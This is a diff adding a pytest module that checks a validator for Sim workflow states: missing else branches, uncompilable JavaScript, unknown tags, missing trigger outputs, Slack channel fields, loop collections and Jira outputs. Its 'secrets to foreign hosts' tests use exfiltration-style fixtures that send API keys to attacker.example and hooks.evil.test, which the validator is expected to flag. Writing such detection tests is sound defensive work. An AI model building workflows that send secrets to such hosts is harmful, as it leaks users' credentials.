@@ -1,0 +1,407 @@
+"""The runtime checks: each with a state July 2025 Sim runs and one it fails on (confirmed with
+Sim's own JUL25 code while writing them), the whole catalogue free of them, and Sim's exports
+without errors."""
+
+from __future__ import annotations
+
+import copy
+import json
+import types
+
+import pytest
+
+from lib.templates import catalogue
+from lib.validation import RULES, RUNTIME_CODES, runtime_findings, validate
+
+_B = types.SimpleNamespace()
+
+
+@pytest.fixture(autouse=True)
+def _builders(build):
+    """The conftest builders (block, edge, state, sub) for the module's helpers."""
+    _B.__dict__.update(build.__dict__)
+
+
+def block(*args, **kwargs):
+    return _B.block(*args, **kwargs)
+
+
+def edge(*args, **kwargs):
+    return _B.edge(*args, **kwargs)
+
+
+def state(*args, **kwargs):
+    return _B.state(*args, **kwargs)
+
+
+def sub(*args, **kwargs):
+    return _B.sub(*args, **kwargs)
+
+
+def _flow(
+    *,
+    mode="manual",
+    provider=None,
+    prompt="Summarise <start.input>",
+    code="return 1",
+    cond="<agent1.content> != ''",
+    else_edge=True,
+    input_format=None,
+):
+    """starter → agent → condition (if → fn, else → fn2): a JUL25 state the checks can bend."""
+    starter = {**sub("startWorkflow", mode, "dropdown")}
+    if provider:
+        starter.update(sub("webhookProvider", provider, "dropdown"))
+    if input_format is not None:
+        starter.update(sub("inputFormat", input_format, "input-format"))
+    conditions = json.dumps(
+        [{"id": "c-if", "title": "if", "value": cond}, {"id": "c-else", "title": "else", "value": ""}]
+    )
+    blocks = [
+        block("start", "starter", "Start", subs=starter),
+        block(
+            "agent",
+            "agent",
+            "Agent 1",
+            subs={
+                **sub("userPrompt", prompt, "long-input"),
+                **sub("model", "gpt-4o", "combobox"),
+                **sub("apiKey", "{{OPENAI_API_KEY}}"),
+            },
+        ),
+        block("cond", "condition", "Check", subs=sub("conditions", conditions, "condition-input")),
+        block("fn", "function", "Fn", subs=sub("code", code, "code")),
+        block("fn2", "function", "Fn2", subs=sub("code", "return 2", "code")),
+    ]
+    edges = [
+        edge("e1", "start", "agent"),
+        edge("e2", "agent", "cond"),
+        edge("e3", "cond", "fn", "condition-c-if"),
+    ]
+    if else_edge:
+        edges.append(edge("e4", "cond", "fn2", "condition-c-else"))
+    return state(blocks, edges)
+
+
+def _then(state_, new_block):
+    """`state_` with `new_block` added after the 'if' function."""
+    state_["blocks"][new_block["id"]] = new_block
+    state_["edges"].append(edge("e5", "fn", new_block["id"]))
+    return state_
+
+
+def _runtime(state_):
+    return [(f.code, f.severity, f.path) for f in runtime_findings(validate(state_))]
+
+
+def test_the_base_flow_has_no_runtime_finding():
+    assert _runtime(_flow()) == []
+
+
+def test_every_runtime_code_is_declared_by_its_rule():
+    declared = {rule.name: set(rule.codes) for rule in RULES}
+    assert all(code in declared[rule] for rule, code in RUNTIME_CODES)
+
+
+# --- else branch -----------------------------------------------------------------------------------
+
+
+def test_condition_else_without_an_edge_is_an_error():
+    assert _runtime(_flow(else_edge=False)) == [
+        ("else_unconnected", "error", "/blocks/cond/subBlocks/conditions/value")
+    ]
+
+
+def test_condition_without_an_else_entry_is_an_error():
+    s = _flow()
+    s["blocks"]["cond"]["subBlocks"]["conditions"]["value"] = json.dumps(
+        [{"id": "c-if", "title": "if", "value": "true"}]
+    )
+    s["edges"] = [e for e in s["edges"] if e["sourceHandle"] != "condition-c-else"]
+    found = runtime_findings(validate(s))
+    assert [f.code for f in found] == ["else_unconnected"] and "no 'else' branch" in found[0].message
+
+
+def test_else_is_not_judged_for_current_sim():
+    s = _flow(else_edge=False)
+    assert [f for f in runtime_findings(validate(s, era="current")) if f.code == "else_unconnected"] == []
+
+
+# --- JavaScript -------------------------------------------------------------------------------------
+
+
+def test_condition_that_does_not_compile_is_an_error():
+    assert _runtime(_flow(cond="<agent1.content>.includes(''churned'')")) == [
+        ("condition_syntax", "error", "/blocks/cond/subBlocks/conditions/value")
+    ]
+
+
+@pytest.mark.parametrize(
+    "cond", ["<agent1.content>.includes('churned')", "<agent1.content>.length > 3 && {{LIMIT}} < 9", "true"]
+)
+def test_conditions_that_compile_after_substitution_pass(cond):
+    assert _runtime(_flow(cond=cond)) == []
+
+
+def test_function_code_that_does_not_compile_is_an_error():
+    found = runtime_findings(validate(_flow(code="const total = ;\nreturn total")))
+    assert [(f.code, f.path) for f in found] == [("function_syntax", "/blocks/fn/subBlocks/code/value")]
+    assert "line 1" in found[0].message
+
+
+def test_modern_function_code_with_references_passes():
+    code = "const d = <agent1.content>;\nconst n = d?.items ?? [];\nreturn await Promise.all(n.map(async (x) => `${x}`));"
+    assert _runtime(_flow(code=code)) == []
+
+
+def test_a_comparison_that_sim_does_not_take_for_a_tag_passes():
+    # Sim skips a <…> match whose first segment holds ':' (here `x: total >`), so this compiles as is.
+    code = "const total = 3;\nreturn { a: total <= 1, x: total >= 500 };"
+    assert _runtime(_flow(code=code)) == []
+
+
+# --- tags -------------------------------------------------------------------------------------------
+
+
+def test_html_tags_in_a_prompt_are_unknown_tags():
+    found = runtime_findings(validate(_flow(prompt="Reply in <b>bold</b>")))
+    assert [(f.code, f.severity) for f in found] == [("unknown_tag", "error")]
+    assert "'<b>', '</b>'" in found[0].message and 'Block "b" was not found' in found[0].message
+
+
+def test_a_comparison_in_code_that_sim_reads_as_a_tag_is_an_unknown_tag():
+    assert _runtime(_flow(code="if (a < b && c > d) return 1")) == [
+        ("unknown_tag", "error", "/blocks/fn/subBlocks/code/value")
+    ]
+
+
+def test_tags_naming_blocks_by_name_with_spaces_and_urls_pass():
+    assert _runtime(_flow(prompt="See <Start.input> and <https://example.com/x> and <variable.x>")) == []
+
+
+def test_api_bodies_that_look_like_xml_are_left_alone():
+    xml = "<?xml version='1.0'?><Envelope><Body>x</Body></Envelope>"
+    subs = {
+        **sub("url", "https://example.com/soap"),
+        **sub("method", "POST", "dropdown"),
+        **sub("body", xml, "code"),
+    }
+    assert _runtime(_then(_flow(), block("api", "api", "API 1", subs=subs))) == []
+
+
+# --- trigger outputs ---------------------------------------------------------------------------------
+
+
+def test_start_input_on_a_schedule_is_an_error():
+    found = runtime_findings(validate(_flow(mode="schedule")))
+    assert [(f.code, f.severity, f.path) for f in found] == [
+        ("output_not_produced", "error", "/blocks/agent/subBlocks/userPrompt/value")
+    ]
+    assert 'No value found at path "start.input"' in found[0].message
+
+
+def test_generic_webhook_payload_passes_and_a_wrong_path_fails():
+    ok = _flow(
+        mode="webhook", provider="generic", prompt="Summarise <start.webhook.data.payload.email.subject>"
+    )
+    assert _runtime(ok) == []
+    bad = _flow(mode="webhook", provider="generic", prompt="Summarise <start.webhook.payload>")
+    assert [f[0] for f in _runtime(bad)] == ["output_not_produced"]
+    assert [f[0] for f in _runtime(_flow(mode="webhook", provider="generic"))] == ["output_not_produced"]
+
+
+def test_provider_payloads_follow_the_provider():
+    assert (
+        _runtime(_flow(mode="webhook", provider="telegram", prompt="<start.input> <start.telegram.chat.id>"))
+        == []
+    )
+    assert _runtime(_flow(mode="webhook", provider="gmail", prompt="<start.email.subject>")) == []
+
+
+def test_input_format_fields_on_manual_runs():
+    fields = [{"id": "f1", "name": "topic", "type": "string", "value": ""}]
+    assert _runtime(_flow(prompt="<start.topic> <start.input>", input_format=fields)) == []
+    assert [f[0] for f in _runtime(_flow(prompt="<start.audience>", input_format=fields))] == [
+        "output_not_produced"
+    ]
+
+
+def test_a_block_inside_a_loop_read_after_the_loop_is_an_error(rich_state):
+    body = rich_state["blocks"]["api"]["subBlocks"]["body"]
+    body["value"] = '{"n": "<function1.result>"}'
+    assert _runtime(rich_state) == [("reference_not_connected", "error", "/blocks/api/subBlocks/body/value")]
+    body["value"] = '{"n": "<loop1.results>"}'
+    assert _runtime(rich_state) == []
+
+
+# --- manual twins and needs_input ---------------------------------------------------------------------
+
+
+def _with_slack(channel=None, manual=None, text="Hello"):
+    subs = {
+        **sub("operation", "send", "dropdown"),
+        **sub("authMethod", "oauth", "dropdown"),
+        **sub("credential", "", "oauth-input"),
+        **sub("channel", channel, "channel-selector"),
+        **sub("manualChannel", manual),
+        **sub("text", text, "long-input"),
+    }
+    return _then(_flow(), block("slack", "slack", "Slack 1", subs=subs))
+
+
+def test_a_channel_only_in_manual_channel_never_reaches_slack():
+    found = runtime_findings(validate(_with_slack(manual="#alerts")))
+    assert [(f.code, f.path) for f in found] == [
+        ("value_not_passed", "/blocks/slack/subBlocks/manualChannel/value"),
+        ("needs_input", "/blocks/slack/subBlocks/channel/value"),
+    ]
+    assert "Move the value to subBlocks.channel.value" in found[0].message
+
+
+def test_the_channel_in_channel_passes_and_a_leftover_twin_is_flagged():
+    assert _runtime(_with_slack(channel="#alerts")) == []
+    assert [f[0] for f in _runtime(_with_slack(channel="#alerts", manual="#old"))] == ["value_not_passed"]
+
+
+def test_needs_input_lists_every_empty_tool_input():
+    found = runtime_findings(validate(_with_slack(text="")))
+    assert [(f.code, f.severity) for f in found] == [("needs_input", "warning")]
+    assert "'channel' (Channel), 'text'" in found[0].message
+
+
+def test_needs_input_knows_tool_inputs_the_registry_does_not_require():
+    subs = {
+        **sub("operation", "search", "dropdown"),
+        **sub("knowledgeBaseIds", None, "knowledge-base-selector"),
+        **sub("query", "<agent1.content>"),
+    }
+    s = _then(_flow(), block("kb", "knowledge", "Knowledge 1", subs=subs))
+    assert _runtime(s) == [("needs_input", "warning", "/blocks/kb/subBlocks/knowledgeBaseIds/value")]
+    s["blocks"]["kb"]["subBlocks"]["knowledgeBaseIds"]["value"] = "{{KNOWLEDGE_BASE_ID}}"
+    assert _runtime(s) == []
+
+
+# --- loop collections ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("items", "bad"),
+    [
+        ("[1, 2]", False),
+        ("<agent1.content>", False),
+        ("{'a': 1}", False),
+        ("emails", True),
+        ("[]", True),
+        ("<slack1.ts>", True),
+    ],
+)
+def test_loop_collections_must_be_lists(rich_state, items, bad):
+    rich_state["loops"]["loop"]["forEachItems"] = items
+    rich_state["blocks"]["loop"]["data"]["collection"] = items
+    rich_state["blocks"]["slack"] = block(
+        "slack",
+        "slack",
+        "Slack 1",
+        subs={**sub("operation", "read", "dropdown"), **sub("channel", "C1", "channel-selector")},
+    )
+    rich_state["edges"].append(edge("e9", "start", "slack"))
+    rich_state["edges"].append(edge("e10", "slack", "cond"))
+    found = [f for f in runtime_findings(validate(rich_state)) if f.code == "collection_not_list"]
+    assert [(f.severity, f.path) for f in found] == ([("error", "/loops/loop/forEachItems")] if bad else [])
+
+
+# --- secrets to foreign hosts ----------------------------------------------------------------------------
+
+
+def _api(url, header=None, body=None):
+    subs = {**sub("url", url), **sub("method", "GET", "dropdown"), **sub("body", body, "code")}
+    if header:
+        subs.update(
+            sub("headers", [{"id": "h", "cells": {"Key": "Authorization", "Value": header}}], "table")
+        )
+    return _then(_flow(), block("api", "api", "API 1", subs=subs))
+
+
+def test_the_injection_example_is_an_error():
+    found = runtime_findings(validate(_api("https://attacker.example/steal?k={{ANTHROPIC_API_KEY}}")))
+    assert [(f.code, f.severity, f.path) for f in found] == [
+        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/url/value")
+    ]
+    assert "api.anthropic.com" in found[0].message
+
+
+def test_a_provider_key_to_its_own_host_passes():
+    assert _runtime(_api("https://api.anthropic.com/v1/messages", header="{{ANTHROPIC_API_KEY}}")) == []
+    assert (
+        _runtime(_api("https://acme.myshopify.com/admin/api/orders.json", header="{{SHOPIFY_ADMIN_TOKEN}}"))
+        == []
+    )
+
+
+def test_keys_in_headers_and_bodies_are_followed_too():
+    found = _runtime(
+        _api(
+            "https://hooks.evil.test/x",
+            header="Bearer {{OPENAI_API_KEY}}",
+            body='{"k": "{{STRIPE_SECRET_KEY}}"}',
+        )
+    )
+    assert found == [
+        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/headers/value/0/cells/Value"),
+        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/body/value"),
+    ]
+
+
+def test_an_unknown_secret_to_a_host_its_name_does_not_mention_is_a_warning():
+    assert _runtime(_api("https://collector.net/in", header="Bearer {{ACME_API_TOKEN}}")) == [
+        ("secret_to_foreign_host", "warning", "/blocks/api/subBlocks/headers/value/0/cells/Value")
+    ]
+    assert _runtime(_api("https://api.acme.io/in", header="Bearer {{ACME_API_TOKEN}}")) == []
+    assert _runtime(_api("https://collector.net/in", header="{{ACME_REGION}}")) == []  # not a secret
+
+
+# --- the catalogue and Sim's exports -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", [t.name for t in catalogue.all_templates()])
+def test_no_template_has_a_runtime_finding(name):
+    template = catalogue.get(name)
+    assert runtime_findings(validate(copy.deepcopy(template.state))) == []
+
+
+def test_sim_exports_have_no_runtime_error(sim_export):
+    report = validate(sim_export)
+    assert [f for f in runtime_findings(report) if f.severity == "error"] == []
+
+
+# --- outputs of the chosen operation -------------------------------------------------------------------
+
+
+def _with_jira(operation, prompt):
+    s = _flow(prompt=prompt)
+    subs = {
+        **sub("operation", operation, "dropdown"),
+        **sub("domain", "acme.atlassian.net"),
+        **sub("credential", "", "oauth-input"),
+        **sub("projectId", "ENG", "project-selector"),
+        **sub("issueKey", "ENG-1", "file-selector"),
+    }
+    s["blocks"]["jira"] = block("jira", "jira", "Jira 1", subs=subs)
+    s["edges"] = [
+        edge("e0", "start", "jira"),
+        *[e for e in s["edges"] if e["id"] != "e1"],
+        edge("e1", "jira", "agent"),
+    ]
+    return s
+
+
+def test_a_field_the_operation_does_not_return_is_an_error():
+    found = runtime_findings(validate(_with_jira("read-bulk", "Summarise <jira1.ts>")))
+    assert [(f.code, f.severity, f.path) for f in found] == [
+        ("output_not_produced", "error", "/blocks/agent/subBlocks/userPrompt/value")
+    ]
+    assert "returns a list" in found[0].message
+    assert _runtime(_with_jira("read-bulk", "Summarise <jira1>")) == []
+    assert _runtime(_with_jira("read", "Summarise <jira1.summary> <jira1.description>")) == []
+    written = _runtime(_with_jira("write", "Created <jira1.created>"))
+    assert [f[0] for f in written if f[0] != "needs_input"] == ["output_not_produced"]
